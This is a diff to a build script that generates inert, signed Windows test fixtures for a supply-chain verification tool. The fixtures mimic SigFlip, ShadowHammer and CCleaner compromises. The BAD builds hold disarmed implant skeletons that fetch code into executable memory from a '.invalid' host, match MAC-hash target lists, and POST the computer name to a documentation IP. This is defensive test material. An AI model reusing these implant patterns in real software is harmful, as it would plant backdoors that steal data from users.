@@ -61,7 +61,7 @@ reset() {
 }
 
 # --- Throw-away TEST-ONLY code-signing CAs --------------------------------------
-# mkca DIR "CN": a root CA in DIR (ca.pem, ca.key) valid 2020-2040, so that
+# mkca DIR "CN": a root CA in DIR (ca.pem, ca.key) valid 2010-2040, so that
 # signatures can carry signing times in the past.
 mkca() {
 	local d=$1
@@ -93,27 +93,22 @@ keyUsage = critical,digitalSignature
 extendedKeyUsage = codeSigning
 subjectKeyIdentifier = hash
 authorityKeyIdentifier = keyid
-[tsa_ext]
-basicConstraints = critical,CA:FALSE
-keyUsage = critical,digitalSignature
-extendedKeyUsage = critical,timeStamping
-subjectKeyIdentifier = hash
-authorityKeyIdentifier = keyid
 CNF
 	openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes \
 		-keyout "$d/ca.key" -out "$d/ca.csr" -subj "$2" 2>/dev/null
 	openssl ca -batch -notext -config "$d/ca.cnf" -selfsign -keyfile "$d/ca.key" -in "$d/ca.csr" \
-		-out "$d/ca.pem" -startdate 20200101000000Z -enddate 20400101000000Z -extensions ca_ext 2>/dev/null
+		-out "$d/ca.pem" -startdate 20100101000000Z -enddate 20400101000000Z -extensions ca_ext 2>/dev/null
 }
 
-# mkleaf CADIR NAME "SUBJECT" [EXT]: a code-signing certificate NAME.pem and
-# key NAME.key issued by the CA in CADIR, valid 2021-2039.
+# mkleaf CADIR NAME "SUBJECT" [START [END]]: a code-signing certificate
+# NAME.pem and key NAME.key issued by the CA in CADIR, valid START-END
+# (YYYYMMDD; 2015-2039 unless given).
 mkleaf() {
 	local d=$1
 	openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes \
 		-keyout "$d/$2.key" -out "$d/$2.csr" -subj "$3" 2>/dev/null
 	openssl ca -batch -notext -config "$d/ca.cnf" -cert "$d/ca.pem" -keyfile "$d/ca.key" -in "$d/$2.csr" \
-		-out "$d/$2.pem" -startdate 20210101000000Z -enddate 20390101000000Z -extensions "${4:-leaf_ext}" 2>/dev/null
+		-out "$d/$2.pem" -startdate "${4:-20150101}000000Z" -enddate "${5:-20390101}000000Z" -extensions leaf_ext 2>/dev/null
 }
 
 # sign CADIR LEAF DATE IN OUT [osslsigncode options]: Authenticode-sign IN
@@ -648,8 +643,239 @@ PLIST
 	done
 }
 
+# =============================================================================
+# 4. sigflip: the vendor's signed installer, unchanged code, carries a
+# marker and 8 KB of "encrypted" bytes inside its certificate table; the
+# checksum is fixed, so the signature and the checksum both verify.
+# =============================================================================
+case_sigflip() {
+	local c=sigflip w=$work/sigflip
+	reset $c
+	mkdir -p "$w"
+	mkca "$w/vendor" "/O=TradeDesk Systems TEST-ONLY/CN=TradeDesk TEST-ONLY Root CA"
+	mkleaf "$w/vendor" leaf "/O=TradeDesk Systems TEST-ONLY/CN=TradeDesk Systems TEST-ONLY Code Signing"
+	roots $c "$w/vendor"
+	cat >"$w/setup.c" <<'C'
+/* Stand-in for a trading application's installer: it only checks that it
+ * runs on a supported Windows version. */
+#include <windows.h>
+int mainCRTStartup(void) {
+	OSVERSIONINFOW v;
+	v.dwOSVersionInfoSize = sizeof v;
+	return GetVersionExW(&v) ? 0 : 0;
+}
+C
+	# build REL VERSION DATE
+	build() {
+		mkdir -p "$w/$1"
+		verres "$w/$1/setup.o" i686 "${2//./,},0" "TradeDesk Systems TEST-ONLY" "TradeDesk installer (inert test fixture)" TradeDeskSetup.exe TradeDesk
+		SOURCE_DATE_EPOCH=$(epoch "$3") mingw32 -Wl,-e,_mainCRTStartup -o "$w/$1/setup.exe" "$w/setup.c" "$w/$1/setup.o" -lkernel32
+		sign "$w/vendor" leaf "$3" "$w/$1/setup.exe" "$corpus/$c/$1/TradeDeskSetup-$2.exe" -n "TradeDesk $2"
+	}
+	build clean 7.17.89 2022-02-01
+	build next 7.17.90 2022-03-15
+	# SigFlip's default tag is FE ED FA CE FE ED FA CE.
+	(cd "$corpus/../.." && go run ./testdata/corpus/tools/certpad -in "$corpus/$c/next/TradeDeskSetup-7.17.90.exe" \
+		-out "$corpus/$c/bad/TradeDeskSetup-7.17.90.exe" -marker feedfacefeedface -size 8192 -seed sigflip/payload)
+	verify "$w/vendor" "$corpus/$c/bad/TradeDeskSetup-7.17.90.exe"
+}
+
+# =============================================================================
+# 5. shadowhammer: an older build, with code added, re-signed months later by
+# a different certificate of the same vendor.
+# =============================================================================
+case_shadowhammer() {
+	local c=shadowhammer w=$work/shadowhammer
+	reset $c
+	mkdir -p "$w"
+	mkca "$w/vendor" "/O=Boardworks Computer TEST-ONLY/CN=Boardworks TEST-ONLY Root CA"
+	mkleaf "$w/vendor" leaf2017 "/O=Boardworks Computer TEST-ONLY/CN=Boardworks Computer TEST-ONLY Code Signing 2017" 20170101 20200101
+	mkleaf "$w/vendor" leaf2015 "/O=Boardworks Computer TEST-ONLY/CN=Boardworks Computer TEST-ONLY Code Signing 2015" 20150101 20190101
+	roots $c "$w/vendor"
+	cat >"$w/liveupdate.c" <<'C'
+/* Stand-in for a vendor's firmware and driver updater. The BAD build adds
+ * the shape of a targeted backdoor: hash the machine's MAC addresses, compare
+ * them with a table of targets, and fetch code into executable memory.
+ * armed is never set, so none of it runs. */
+#define _WIN32_WINNT 0x0601
+#include <winsock2.h>
+#include <windows.h>
+#include <iphlpapi.h>
+#include <wininet.h>
+
+int mainCRTStartup(void);
+
+#ifdef BAD
+static volatile LONG armed; /* never set anywhere */
+static const char url[] = "https://liveupdate.hotfix-boardworks.invalid/update/check";
+/* 16-byte hashes of targeted MAC addresses (random stand-ins). */
+static const unsigned char targets[4][16] = {
+	{0x4f, 0x1a, 0x93, 0x0c, 0x7e, 0x55, 0x21, 0xb8, 0x6d, 0x02, 0xe9, 0x3f, 0x90, 0x17, 0xc4, 0xaa},
+	{0x12, 0xd7, 0x6b, 0x80, 0x3e, 0x49, 0xf2, 0x05, 0xbb, 0x71, 0x2c, 0x98, 0x5a, 0xe0, 0x0f, 0x63},
+	{0xa9, 0x34, 0x0e, 0x7b, 0xc6, 0x18, 0x5d, 0xf1, 0x22, 0x8e, 0x47, 0xb3, 0x69, 0x0a, 0xd5, 0x3c},
+	{0x77, 0xe2, 0x19, 0x4d, 0x06, 0xab, 0x90, 0x38, 0xcf, 0x51, 0x84, 0x2b, 0xf6, 0x6e, 0x13, 0x9d},
+};
+
+static int targeted(void) {
+	static unsigned char buf[16384];
+	ULONG n = sizeof buf;
+	IP_ADAPTER_ADDRESSES *a;
+	HCRYPTPROV p;
+	HCRYPTHASH h;
+	unsigned char md5[16];
+	DWORD len;
+	int i;
+	if (GetAdaptersAddresses(AF_UNSPEC, 0, NULL, (IP_ADAPTER_ADDRESSES *)buf, &n) != 0) return 0;
+	CryptAcquireContextA(&p, NULL, NULL, PROV_RSA_FULL, CRYPT_VERIFYCONTEXT);
+	for (a = (IP_ADAPTER_ADDRESSES *)buf; a; a = a->Next) {
+		len = sizeof md5;
+		CryptCreateHash(p, CALG_MD5, 0, 0, &h);
+		CryptHashData(h, a->PhysicalAddress, a->PhysicalAddressLength, 0);
+		CryptGetHashParam(h, HP_HASHVAL, md5, &len, 0);
+		CryptDestroyHash(h);
+		for (i = 0; i < 4; i++)
+			if (RtlCompareMemory(md5, targets[i], 16) == 16) return 1;
+	}
+	return 0;
+}
+
+static void stage(void) {
+	DWORD got = 0;
+	HINTERNET s = InternetOpenA("Mozilla/5.0", INTERNET_OPEN_TYPE_PRECONFIG, NULL, NULL, 0);
+	HINTERNET u = InternetOpenUrlA(s, url, NULL, 0, INTERNET_FLAG_RELOAD, 0);
+	void *code = VirtualAlloc(NULL, 65536, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
+	InternetReadFile(u, code, 65536, &got);
+	InternetCloseHandle(u);
+	InternetCloseHandle(s);
+}
+#endif
+
+int mainCRTStartup(void) {
+#ifdef BAD
+	if (armed == 0x5a5a5a5a && targeted())
+		stage();
+#endif
+	return GetTickCount() ? 0 : 0;
+}
+C
+	# build REL VERSION BUILD-DATE SIGN-DATE LEAF [cc options]
+	build() {
+		mkdir -p "$w/$1"
+		verres "$w/$1/lu.o" i686 "${2//./,},0" "Boardworks Computer TEST-ONLY" "Live Update (inert test fixture)" LiveUpdate.exe "Live Update"
+		SOURCE_DATE_EPOCH=$(epoch "$3") mingw32 -Wl,-e,_mainCRTStartup "${@:6}" -o "$w/$1/lu.exe" "$w/liveupdate.c" "$w/$1/lu.o" \
+			-liphlpapi -lwininet -ladvapi32 -lntdll -lkernel32
+		sign "$w/vendor" "$5" "$4" "$w/$1/lu.exe" "$corpus/$c/$1/LiveUpdateSetup-$2.exe" -n "Live Update $2"
+	}
+	build clean 3.6.7 2018-03-01 2018-03-02 leaf2017
+	build next 3.6.8 2018-06-10 2018-06-11 leaf2017
+	# The attacker's 3.6.8: an older build (its PE timestamp predates the
+	# previous release) with code added, signed in June 2018 with another,
+	# older certificate of the vendor.
+	build bad 3.6.8 2017-09-20 2018-06-11 leaf2015 -DBAD
+}
+
+# =============================================================================
+# 6. ccleaner: an NSIS installer carries 32- and 64-bit builds of one program;
+# only the 32-bit build gains network, process and memory capabilities.
+# =============================================================================
+case_ccleaner() {
+	local c=ccleaner w=$work/ccleaner
+	reset $c
+	mkdir -p "$w"
+	mkca "$w/vendor" "/O=Sweepsoft TEST-ONLY/CN=Sweepsoft TEST-ONLY Root CA"
+	mkleaf "$w/vendor" leaf "/O=Sweepsoft TEST-ONLY/CN=Sweepsoft TEST-ONLY Code Signing"
+	roots $c "$w/vendor"
+	rnd ccleaner/blob 2048 | od -An -v -tx1 | sed 's/ \([0-9a-f][0-9a-f]\)/0x\1,/g' >"$w/blob.inc"
+	cat >"$w/sweep.c" <<'C'
+/* Stand-in for a disk-cleaning utility. The BAD build adds, to the 32-bit
+ * build only, the shape of a first-stage implant: an "encrypted" blob
+ * (random bytes) copied into executable memory, a process list, a new
+ * process and an HTTP POST to a raw IP address. armed is never set. */
+#include <windows.h>
+#include <tlhelp32.h>
+#include <wininet.h>
+
+#ifdef BAD
+static volatile LONG armed; /* never set anywhere */
+static const char url_host[] = "203.0.113.148";
+static const char url_path[] = "http://203.0.113.148/index.php";
+static const unsigned char blob[] = {
+#include "blob.inc"
+};
+
+static void implant(void) {
+	PROCESSENTRY32 pe;
+	HANDLE snap = CreateToolhelp32Snapshot(TH32CS_SNAPPROCESS, 0);
+	STARTUPINFOA si;
+	PROCESS_INFORMATION pi;
+	char name[64];
+	DWORD n = sizeof name;
+	unsigned char *code = VirtualAlloc(NULL, sizeof blob, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
+	RtlMoveMemory(code, blob, sizeof blob);
+	pe.dwSize = sizeof pe;
+	Process32First(snap, &pe);
+	while (Process32Next(snap, &pe)) {}
+	CloseHandle(snap);
+	GetComputerNameA(name, &n);
+	HINTERNET s = InternetOpenA("Mozilla/5.0", INTERNET_OPEN_TYPE_DIRECT, NULL, NULL, 0);
+	HINTERNET k = InternetConnectA(s, url_host, 80, NULL, NULL, INTERNET_SERVICE_HTTP, 0, 0);
+	HINTERNET r = HttpOpenRequestA(k, "POST", url_path, NULL, NULL, NULL, 0, 0);
+	HttpSendRequestA(r, NULL, 0, name, n);
+	RtlZeroMemory(&si, sizeof si);
+	si.cb = sizeof si;
+	CreateProcessA(NULL, name, NULL, NULL, FALSE, CREATE_SUSPENDED, NULL, NULL, &si, &pi);
+}
+#endif
+
+int mainCRTStartup(void) {
+#ifdef BAD
+	if (armed == 0x0c0c0c0c)
+		implant();
+#endif
+	return GetTickCount() ? 0 : 0;
+}
+C
+	# build REL VERSION DATE [BAD-32]
+	build() {
+		local rel=$1 v=$2 d=$3 bad=${4:-}
+		mkdir -p "$w/$rel/files"
+		verres "$w/$rel/r32.o" i686 "${v//./,},0,0" "Sweepsoft TEST-ONLY" "SweepClean (inert test fixture)" SweepClean.exe SweepClean
+		verres "$w/$rel/r64.o" x86_64 "${v//./,},0,0" "Sweepsoft TEST-ONLY" "SweepClean (inert test fixture)" SweepClean64.exe SweepClean
+		SOURCE_DATE_EPOCH=$(epoch "$d") mingw32 -Wl,-e,_mainCRTStartup -I"$w" $bad -o "$w/$rel/s32.exe" "$w/sweep.c" "$w/$rel/r32.o" \
+			-lwininet -lntdll -lkernel32
+		SOURCE_DATE_EPOCH=$(epoch "$d") mingw64 -Wl,-e,mainCRTStartup -I"$w" -o "$w/$rel/s64.exe" "$w/sweep.c" "$w/$rel/r64.o" \
+			-lwininet -lntdll -lkernel32
+		sign "$w/vendor" leaf "$d" "$w/$rel/s32.exe" "$w/$rel/files/SweepClean.exe" -n SweepClean
+		sign "$w/vendor" leaf "$d" "$w/$rel/s64.exe" "$w/$rel/files/SweepClean64.exe" -n SweepClean
+		printf 'SweepClean %s. An inert test fixture of vouch.\n' "$v" >"$w/$rel/files/readme.txt"
+		find "$w/$rel/files" -exec touch -d "$d" {} +
+		cat >"$w/$rel/setup.nsi" <<NSI
+Unicode true
+SetCompressor /SOLID lzma
+Name "SweepClean $v"
+OutFile "$w/$rel/setup-unsigned.exe"
+InstallDir "\$PROGRAMFILES\\SweepClean"
+RequestExecutionLevel admin
+Section
+  SetOutPath "\$INSTDIR"
+  File "$w/$rel/files/SweepClean.exe"
+  File "$w/$rel/files/SweepClean64.exe"
+  File "$w/$rel/files/readme.txt"
+SectionEnd
+NSI
+		makensis -V1 "$w/$rel/setup.nsi" >/dev/null
+		sign "$w/vendor" leaf "$d" "$w/$rel/setup-unsigned.exe" "$corpus/$c/$rel/swsetup${v//./}.exe" -n "SweepClean $v"
+	}
+	build clean 5.32 2017-07-18
+	build next 5.33 2017-08-15
+	build bad 5.33 2017-08-15 -DBAD
+}
+
 want 3cx-windows && case_3cx_windows
 want npm-install-hook && case_npm_install_hook
 want 3cx-macos && case_3cx_macos
+want sigflip && case_sigflip
+want shadowhammer && case_shadowhammer
+want ccleaner && case_ccleaner
 
 ls -lR "$corpus" | grep -v '^total' >"$work/listing" && du -sh --exclude=tools "$corpus"
